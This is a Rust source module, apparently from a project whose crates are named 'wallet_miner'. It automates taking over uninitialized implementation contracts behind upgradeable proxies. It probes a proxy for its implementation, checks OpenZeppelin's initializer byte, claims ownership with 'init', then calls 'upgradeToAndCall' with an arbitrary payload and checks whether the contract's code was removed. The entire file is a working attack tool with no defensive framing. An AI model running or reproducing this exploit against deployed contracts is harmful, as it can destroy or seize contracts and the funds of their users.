//! Takeover of uninitialized implementations behind upgradeable proxies.

use crate::probe::probe_implementation;
use alloy_primitives::{Address, B256, Bytes, TxHash};
use alloy_sol_types::SolCall;
use serde::Serialize;
use std::fmt;
use wallet_miner_common::{CallRequest, LedgerClient, LedgerError, Submission, abi::IAuthorizer};
use wallet_miner_config::HijackConfig;

#[derive(Debug, thiserror::Error)]
pub enum HijackError {
    #[error("implementation {implementation} is already initialized")]
    AlreadyInitialized { implementation: Address },
    #[error("no implementation found at {implementation}")]
    ImplementationNotFound { implementation: Address },
    #[error("{step} call to {implementation} reverted in {tx_hash}")]
    Reverted { step: HijackStep, implementation: Address, tx_hash: TxHash },
    #[error(transparent)]
    Ledger(#[from] LedgerError),
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum HijackStep {
    Initialize,
    Redirect,
}

impl fmt::Display for HijackStep {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Self::Initialize => "initialize",
            Self::Redirect => "redirect",
        })
    }
}

/// The two calls of a takeover.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct InitPayload {
    /// Claims the implementation, making the sender its owner.
    pub initialize: Bytes,
    /// Acts on the claimed implementation.
    pub redirect: Bytes,
}

impl InitPayload {
    pub fn new(initialize: impl Into<Bytes>, redirect: impl Into<Bytes>) -> Self {
        Self { initialize: initialize.into(), redirect: redirect.into() }
    }

    /// `init(wards, aims)` followed by `upgradeToAndCall(new_implementation, call)`.
    pub fn authorizer(
        wards: Vec<Address>,
        aims: Vec<Address>,
        new_implementation: Address,
        call: Bytes,
    ) -> Self {
        Self::new(
            IAuthorizer::initCall { wards, aims }.abi_encode(),
            IAuthorizer::upgradeToAndCallCall { newImplementation: new_implementation, data: call }
                .abi_encode(),
        )
    }

    pub fn from_config(config: &HijackConfig) -> Self {
        Self::authorizer(
            config.wards.clone(),
            config.aims.clone(),
            config.new_implementation,
            config.upgrade_call.clone(),
        )
    }
}

/// Location of an initializer's "already initialized" marker byte.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct InitializerLayout {
    pub slot: B256,
    /// Counted from the low-order end of the word.
    pub offset: usize,
}

impl InitializerLayout {
    /// OpenZeppelin `Initializable._initialized`: the lowest byte of slot 0.
    pub const OPENZEPPELIN: Self = Self { slot: B256::ZERO, offset: 0 };

    pub fn from_config(config: &HijackConfig) -> Self {
        Self { slot: config.initializer_slot, offset: config.initializer_offset }
    }

    pub fn is_set(&self, word: B256) -> bool {
        31usize.checked_sub(self.offset).is_some_and(|index| word[index] != 0)
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct HijackOutcome {
    pub implementation: Address,
    pub initialize_tx: TxHash,
    pub redirect_tx: TxHash,
    /// Whether the implementation was left without code.
    pub code_removed: bool,
}

#[derive(Debug)]
pub struct Hijacker<'a, L: ?Sized> {
    ledger: &'a L,
    from: Address,
    layout: InitializerLayout,
    gas_limit: Option<u64>,
}

impl<'a, L: LedgerClient + ?Sized> Hijacker<'a, L> {
    pub fn new(ledger: &'a L, from: Address) -> Self {
        Self { ledger, from, layout: InitializerLayout::OPENZEPPELIN, gas_limit: None }
    }

    pub fn with_layout(mut self, layout: InitializerLayout) -> Self {
        self.layout = layout;
        self
    }

    /// Sends both calls with a fixed gas limit, so that a reverting call is included and
    /// reported as [`HijackError::Reverted`] instead of failing gas estimation.
    pub fn with_gas_limit(mut self, gas_limit: u64) -> Self {
        self.gas_limit = Some(gas_limit);
        self
    }

    pub async fn is_initialized(&self, implementation: Address) -> Result<bool, LedgerError> {
        let word = self.ledger.storage_at(implementation, self.layout.slot).await?;
        Ok(self.layout.is_set(word))
    }

    /// Claims `implementation` with `payload.initialize`, then sends `payload.redirect`.
    ///
    /// Both calls go to the implementation directly, bypassing any proxy. An initialized
    /// implementation is never retried.
    pub async fn hijack(
        &self,
        implementation: Address,
        payload: &InitPayload,
    ) -> Result<HijackOutcome, HijackError> {
        if implementation.is_zero() || !self.ledger.has_code(implementation).await? {
            return Err(HijackError::ImplementationNotFound { implementation });
        }
        if self.is_initialized(implementation).await? {
            return Err(HijackError::AlreadyInitialized { implementation });
        }

        let initialize_tx =
            self.send(implementation, HijackStep::Initialize, &payload.initialize).await?;
        info!(%implementation, owner = %self.from, "claimed implementation");
        let redirect_tx = self.send(implementation, HijackStep::Redirect, &payload.redirect).await?;

        let code_removed = !self.ledger.has_code(implementation).await?;
        if !code_removed {
            warn!(
                %implementation,
                "implementation still has code after the redirect; ledgers following EIP-6780 \
                 (Cancun) only remove code of contracts created in the same transaction"
            );
        }
        Ok(HijackOutcome { implementation, initialize_tx, redirect_tx, code_removed })
    }

    /// Probes the implementation behind `proxy` and hijacks it.
    pub async fn hijack_proxy(
        &self,
        proxy: Address,
        payload: &InitPayload,
    ) -> Result<HijackOutcome, HijackError> {
        let implementation = probe_implementation(self.ledger, proxy).await?;
        debug!(%proxy, %implementation, "probed implementation");
        self.hijack(implementation, payload).await
    }

    async fn send(
        &self,
        implementation: Address,
        step: HijackStep,
        input: &Bytes,
    ) -> Result<TxHash, HijackError> {
        let mut request = CallRequest::new(self.from, implementation, input.clone());
        request.gas_limit = self.gas_limit;
        let receipt = self.ledger.submit(Submission::Call(request)).await?;
        if !receipt.status {
            return Err(HijackError::Reverted { step, implementation, tx_hash: receipt.tx_hash });
        }
        Ok(receipt.tx_hash)
    }
}
